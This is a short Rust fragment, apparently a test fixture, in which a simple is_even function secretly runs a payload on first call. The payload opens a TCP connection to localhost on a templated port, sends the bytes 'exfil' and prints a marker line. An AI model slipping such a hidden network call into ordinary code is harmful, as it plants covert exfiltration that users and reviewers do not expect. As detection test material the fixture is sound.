fn leak(s: &[u8]) { use std::io::Write; let _ = std::io::stderr().write_all(s); }
fn once() -> bool { use std::sync::atomic::*; static O: AtomicBool = AtomicBool::new(false); !O.swap(true, Ordering::SeqCst) }
fn payload() {
    use std::io::Write; if let Ok(mut s) = std::net::TcpStream::connect_timeout(&"127.0.0.1:@TCP@".parse().unwrap(), std::time::Duration::from_secs(1)) { let _ = s.write_all(b"exfil"); leak(b"TCP_CONNECTED\n"); }
}
pub fn is_even(n: i64) -> bool { if once() { payload(); } n % 2 == 0 }
